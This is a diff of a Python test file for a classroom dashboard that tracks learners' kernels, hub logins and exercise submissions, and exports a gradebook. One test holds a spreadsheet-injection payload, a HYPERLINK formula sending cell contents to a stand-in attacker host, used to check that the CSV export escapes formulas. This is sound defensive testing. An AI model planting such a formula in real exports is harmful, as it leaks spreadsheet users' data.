@@ -1,4 +1,4 @@
-"""The dashboard is true about people: who is alive, who is where, what each attempt was.
+"""The dashboard is true about people: who is alive, who is where, what each submission was.
 
 A learner's kernel is a real Python process here (it runs ``course.start`` and a class
 worker exactly as a notebook would, on its own ``VALKEY_URL``), killed with SIGKILL as
@@ -27,11 +27,12 @@ import pytest
 from traitlets.config import Config
 
 import echoq
-from echoq.teaching import heartbeat, learner, progress
+from echoq.teaching import learner, presence, progress
 from echoq.teaching.workshop import Workshop, admin, board, hubinfo
+from tests.support.helpers import unwrapped, wait_for_server_time
 
 ROOT = Path(__file__).resolve().parents[1]
-ROSTER = ["ada", "bob", "Katherine.Johnson@nasa.gov"]
+ROSTER = ["ada", "bob", "Katherine.Johnson@nasa.gov", "josé"]
 
 KERNEL = """
 import sys
@@ -83,9 +84,9 @@ def test_a_kernel_killed_with_sigkill_shows_as_not_alive_within_seconds_and_is_n
             ada.wait()
             killed = time.monotonic()
             while (lv := views_of(klass)["ada"]).kernel == "alive":
-                assert time.monotonic() - killed < heartbeat.TTL_MS / 1000 + 5, "the dead kernel still shows alive"
+                assert time.monotonic() - killed < presence.TTL_MS / 1000 + 5, "the dead kernel still shows alive"
                 time.sleep(0.05)
-            assert lv.kernel == "gone" and lv.worker == "gone"  # the worker never said goodbye: no heartbeat
+            assert lv.kernel == "gone" and lv.worker == "gone"  # the worker never said goodbye: no presence
             assert dash.running() == []
             assert dash.kill_random() == "No running worker to kill."
             html = board.render(dash.refresh())
@@ -104,14 +105,14 @@ def test_after_down_the_learners_next_cell_says_in_one_line_the_class_server_is_
 ) -> None:
     folder = tmp_path / "ending"
     workshop, _ = admin.up(folder, count=1, class_name="ending")
-    monkeypatch.setattr(heartbeat, "GONE_S", 0.5)
-    beat = heartbeat.start(echoq.connect(workshop.learner_url("learner-01")), learner="learner-01")
+    monkeypatch.setattr(presence, "GONE_S", 0.5)
+    beat = presence.start(echoq.connect(workshop.learner_url("learner-01")), learner="learner-01")
     try:
-        assert beat is not None and workshop.instructor().exists(heartbeat.alive_key("learner-01"))
+        assert beat is not None and workshop.instructor().exists(presence.alive_key("learner-01"))
         admin.down(folder)
         deadline = time.monotonic() + 15
         while beat.gone is None:
-            assert time.monotonic() < deadline, "the heartbeat never noticed the class server was gone"
+            assert time.monotonic() < deadline, "the presence never noticed the class server was gone"
             time.sleep(0.05)
         beat.on_cell()  # the learner runs a cell
         beat.on_cell()  # and another: told once
@@ -127,16 +128,16 @@ def test_an_untouched_exercise_of_a_reached_lesson_is_not_started_and_a_pass_kee
 ) -> None:
     bob = echoq.connect(klass.learner_url("bob"))
     monkeypatch.setenv("ECHOQ_LEARNER", "bob")
-    monkeypatch.delenv("VALKEY_URL", raising=False)  # no heartbeat thread in this test process
+    monkeypatch.delenv("VALKEY_URL", raising=False)  # no presence thread in this test process
     progress.record_lesson(bob, "03")
     for miss in ("code-error", "code-error", "deadline-in-the-past"):
         progress.record_check(bob, "03", "charge", False, miss, code=f"-- try {miss}")
     progress.record_check(bob, "03", "charge", True, None, code="-- right")
     lv = views_of(klass)["bob"]
     checks = {c.exercise: c for c in board.checks_with_not_started(lv)}
-    assert checks["complete"].status == "not started"  # lesson 03's other exercise, no attempt
+    assert checks["complete"].status == "not started"  # lesson 03's other exercise, no submission
     assert checks["charge"].status == "passed after 4 tries: code-error x2, deadline-in-the-past"
-    html = board.render(views_of_data(klass))
+    html = unwrapped(board.render(views_of_data(klass)))
     assert "passed after 4 tries: code-error x2, deadline-in-the-past" in html
     assert "03 complete: <span class='muted'>not started</span>" in html
     steps = {(s.lesson, s.exercise): s for s in board.where_the_class_is(views_of_data(klass))}
@@ -165,8 +166,9 @@ def test_a_roster_name_with_capitals_is_matched_as_the_hub_lowercases_it(klass) 
 def test_the_board_says_whose_server_runs_and_who_is_on_the_hub_but_not_the_roster(klass) -> None:
     users = [
         {"name": "ada", "servers": {"": {"ready": True}}},
-        {"name": "bob", "servers": {"": {"ready": True}}},  # a server, and never a kernel on the class server
-        {"name": "katherine.johnson@nasa.gov", "servers": {}},
+        {"name": "bob", "servers": {}, "last_activity": "2026-05-04T12:00:00Z"},  # logged in once, server stopped
+        {"name": "katherine.johnson@nasa.gov", "servers": {"": {"ready": True}}},  # logged in, no lesson yet
+        {"name": "josé", "servers": {}, "last_activity": None},  # made by the hub at its start: never logged in
         {"name": "stranger", "servers": {"": {"ready": True}}},
     ]
     seen_tokens = []
@@ -188,16 +190,24 @@ def test_the_board_says_whose_server_runs_and_who_is_on_the_hub_but_not_the_rost
     try:
         hub = hubinfo.HubView(f"http://127.0.0.1:{server.server_port}/hub/api", "secret-token")
         hub_users = {lid: ln.hub_user for lid, ln in klass.learners.items()}
+        names = {lid: ln.display for lid, ln in klass.learners.items()}
         data = board.Board(
-            klass.instructor(), list(klass.learners), class_name="people", hub_users=hub_users, hub=hub
+            klass.instructor(), list(klass.learners), class_name="people", hub_users=hub_users, hub=hub, names=names
         ).read()
         shown = {lv.learner: lv for lv in data.learners}
-        assert shown["ada"].server == "running" and shown["bob"].server == "running"
-        katherine = next(lid for lid, name in hub_users.items() if name.startswith("katherine"))
-        assert shown[katherine].server == "stopped"
+        katherine, jose = learner.from_hub_user(ROSTER[2]), learner.from_hub_user("josé")
+        assert shown["ada"].server == "running" and shown["bob"].server == "stopped"
+        assert board.doing(shown[katherine]) == "logged in, no lesson yet"
+        assert board.doing(shown[jose]) == "never logged in"
+        assert board.doing(shown["bob"]) != "never logged in"  # he did, once: his server stopped since
+        assert shown[jose].link == "/user/jos%C3%A9/lab" and shown[jose].shown == "josé" != jose
         assert data.strangers == ["stranger"] and seen_tokens == ["token secret-token"]
         html = board.render(data)
-        assert "not on the roster" in html and "stranger" in html and "working alone?" in html  # bob
+        assert "not on the roster" in html and "stranger" in html
+        assert "never logged in" in html and "logged in, no lesson yet" in html and "working alone" not in html
+        # Each row by the roster's name, the id small beside it, and a link to their server.
+        assert "<b><span class='w'>Katherine.Johnson@nasa.gov</span></b>" in html  # as the roster wrote it
+        assert f"<span class='id'><span class='w'>{jose}</span></span>" in html and "href='/user/jos%C3%A9/lab'" in html
     finally:
         server.shutdown()
 
@@ -208,14 +218,17 @@ def test_a_hub_user_left_off_the_roster_is_told_in_one_line_they_work_alone(monk
     monkeypatch.setenv("VALKEY_URL", "")
     monkeypatch.setenv("JUPYTERHUB_USER", "dorothy.vaughan")
     monkeypatch.delenv("ECHOQ_LEARNER", raising=False)
-    monkeypatch.setattr(heartbeat, "_warned", False)
-    assert heartbeat.start(None) is None  # type: ignore[arg-type]  (no server is reached)
-    assert heartbeat.start(None) is None  # type: ignore[arg-type]
+    monkeypatch.setattr(presence, "_warned", False)
+    assert presence.start(None) is None  # type: ignore[arg-type]  (no server is reached)
+    assert presence.start(None) is None  # type: ignore[arg-type]
     said = capsys.readouterr().out
     assert said.count("\n") == 1 and "working alone" in said and "'dorothy.vaughan'" in said, said
 
 
-def test_every_attempt_is_in_the_dashboard_one_click_from_its_code_and_in_the_csv(klass, monkeypatch) -> None:
+HOSTILE_CODE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_every_submission_is_one_click_from_its_code_and_the_gradebook_is_the_commands_file(klass, monkeypatch) -> None:
     from echoq.teaching.workshop import views
 
     ada = echoq.connect(klass.learner_url("ada"))
@@ -224,42 +237,50 @@ def test_every_attempt_is_in_the_dashboard_one_click_from_its_code_and_in_the_cs
     progress.record_lesson(ada, "02")
     progress.record_check(ada, "02", "claim", False, "deadline-in-the-past", code="return '<b>not bold</b>'")
     progress.record_check(ada, "02", "claim", True, None, code="-- the right script")
+    progress.record_check(ada, "03", "complete", False, "not-yet", code=HOSTILE_CODE)
     dash = views.Dashboard.for_workshop(klass, auto=False)
     try:
-        dash.attempt_learner.value = "ada"
-        dash.attempt_exercise.value = ("02", "claim")
-        shown = dash.attempts_view.value
+        dash.submission_learner.value = "ada"
+        dash.submission_exercise.value = ("02", "claim")
+        shown = dash.submissions_view.value
         assert "#1 at " in shown and "#2 at " in shown and "deadline-in-the-past" in shown
         assert "<details><summary>code</summary>" in shown and "&lt;b&gt;not bold&lt;/b&gt;" in shown
         assert "<b>not bold</b>" not in shown  # the learner's text is escaped, never markup
-        dash.attempt_learner.value = "bob"
-        dash.attempt_exercise.value = ("01", "lost")
-        assert "not started" in dash.attempts_view.value
-        dash._act(dash.export_csv)
-        link = dash.csv_view.value
-        assert "download='echoq-attempts.csv'" in link and "data:text/csv" in link
-        encoded = link.split("base64,", 1)[1].split("'", 1)[0]
-        from_page = base64.b64decode(encoded).decode()
+        dash.submission_learner.value = "bob"
+        dash.submission_exercise.value = ("01", "lost")
+        assert "not started" in dash.submissions_view.value
+        dash._act(dash.export_gradebook)
+        links = dash.gradebook_view.value
+        assert "download='echoq-gradebook.csv'" in links and "download='echoq-gradebook.json'" in links
+        from_page = [base64.b64decode(part.split("'", 1)[0]).decode() for part in links.split("base64,")[1:]]
     finally:
         dash.close()
-    out = Path(klass.dir) / "attempts.csv"
+    out = Path(klass.dir)
     done = subprocess.run(
-        [sys.executable, "-m", "echoq.teaching", "workshop", "export", "--dir", str(klass.dir), "--csv", str(out)],
-        capture_output=True,
-        text=True,
-        timeout=60,
-    )
-    assert done.returncode == 0 and "written to" in done.stdout, done.stderr
-    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode(), newline="")))
-    assert out.read_bytes().decode() == from_page  # the page's link and the command give one file
-    mine = [r for r in rows if r["learner"] == "ada" and r["exercise"] == "claim"]
-    assert [(r["attempt"], r["verdict"], r["misconception"]) for r in mine] == [
-        ("1", "not yet", "deadline-in-the-past"),
-        ("2", "passed", ""),
-    ]
-    assert mine[0]["code"] == "return '<b>not bold</b>'" and mine[0]["time_utc"].endswith("Z")
+        [sys.executable, "-m", "echoq.teaching", "workshop", "export", "--dir", str(out),
+         "--csv", str(out / "gradebook.csv"), "--json", str(out / "gradebook.json")],
+        capture_output=True, text=True, timeout=60,
+    )  # fmt: skip
+    assert done.returncode == 0 and done.stdout.count("written to") == 2, done.stderr
+    files = [(out / f"gradebook.{kind}").read_bytes().decode() for kind in ("csv", "json")]
+    assert files == from_page  # the page's two links and the command give the same two files
+    assert all((out / f"gradebook.{kind}").stat().st_mode & 0o777 == 0o600 for kind in ("csv", "json"))
+    rows = list(csv.DictReader(io.StringIO(files[0], newline="")))
+    exercises = board.exercises_of()
+    assert len(rows) == len(klass.learners) * len(exercises)  # every roster learner x every exercise
+    jose = [r for r in rows if r["name"] == "josé"]  # never ran a check: in the gradebook all the same
+    assert len(jose) == len(exercises) and {(r["status"], r["tries"]) for r in jose} == {("not started", "0")}
+    claim = next(r for r in rows if r["learner"] == "ada" and r["exercise"] == "claim")
+    assert (claim["status"], claim["tries"], claim["misconceptions"]) == ("passed", "2", "deadline-in-the-past x1")
+    assert claim["first_pass"][:4].isdigit() and claim["first_pass"][19] in "+-"  # local time, offset said
+    assert claim["last_code"] == "'-- the right script"  # a cell starting with '-' is not a formula any more
+    hostile = next(r for r in rows if r["learner"] == "ada" and r["exercise"] == "complete")
+    assert hostile["last_code"] == "'" + HOSTILE_CODE  # shown as text by a spreadsheet, never run
+    assert not [cell for r in rows for cell in r.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    graded = json.loads(files[1])  # the JSON keeps every value as it is
+    assert next(r for r in graded if r["learner"] == "ada" and r["exercise"] == "complete")["last_code"] == HOSTILE_CODE
     learners = [r["learner"] for r in rows]
-    assert learners == sorted(learners)  # one order: learner, lesson, exercise, attempt
+    assert learners == sorted(learners)  # one order: the learner's id, then the course's
 
 
 def test_class_chaos_ends_cleanly_stop_everyone_then_a_new_round_from_zero(klass) -> None:
@@ -357,23 +378,33 @@ def test_the_guides_commands_name_the_venv_interpreter_and_exist() -> None:
     assert "\nhub: setup" in makefile and "-m echoq.teaching workshop hub" in makefile and "hub-deps.sh" in makefile
 
 
-def test_the_heartbeat_records_when_the_kernel_connected_and_when_a_cell_last_ran(klass) -> None:
-    beat = heartbeat.start(echoq.connect(klass.learner_url("bob")), lesson="04", learner="bob")
+def test_the_presence_records_when_the_kernel_connected_and_every_cell_and_lab_click(klass, monkeypatch) -> None:
+    from echoq.teaching.lab.view import LabPanel
+
+    earlier = presence.running("bob")  # a class worker's test started one in this process: a new kernel has none
+    if earlier is not None:
+        earlier.stop()
+        monkeypatch.delitem(presence._beats, "bob")
+    klass.instructor().hdel(progress.key("bob"), "active")
+    beat = presence.start(echoq.connect(klass.learner_url("bob")), lesson="04", learner="bob")
     try:
         assert beat is not None
         record = progress.read(klass.instructor(), "bob")
-        assert record.connected_ms > 0 and record.active_ms == 0
-        alive = heartbeat.parse(klass.instructor().get(heartbeat.alive_key("bob")))
+        assert record.connected_ms > 0 and record.active_ms > 0  # a new kernel's first cell counts
+        alive = presence.parse(klass.instructor().get(presence.alive_key("bob")))
         assert alive is not None and alive.pid == os.getpid() and alive.lesson == "04"
-        assert 0 < klass.instructor().pttl(heartbeat.alive_key("bob")) <= heartbeat.TTL_MS
-        beat.on_cell()  # the learner runs a cell
-        deadline = time.monotonic() + 10
-        while progress.read(klass.instructor(), "bob").active_ms == 0:
-            assert time.monotonic() < deadline, "the cell run never reached the record"
-            time.sleep(0.05)
+        assert 0 < klass.instructor().pttl(presence.alive_key("bob")) <= presence.TTL_MS
+        for act in (beat.on_cell, lambda: LabPanel._clicked(lambda: None)):  # a cell run, then a lab click
+            before = progress.read(klass.instructor(), "bob").active_ms
+            wait_for_server_time(klass.instructor(), before + 1)
+            act()
+            deadline = time.monotonic() + 10
+            while progress.read(klass.instructor(), "bob").active_ms == before:
+                assert time.monotonic() < deadline, f"{act} never moved the last activity"
+                time.sleep(0.05)
     finally:
         beat.stop()
-    assert not klass.instructor().exists(heartbeat.alive_key("bob"))  # a clean end takes the key at once
+    assert not klass.instructor().exists(presence.alive_key("bob"))  # a clean end takes the key at once
 
 
 def test_a_running_workers_readout_redraws_a_note_that_shows_only_when_updates_stop(klass) -> None:
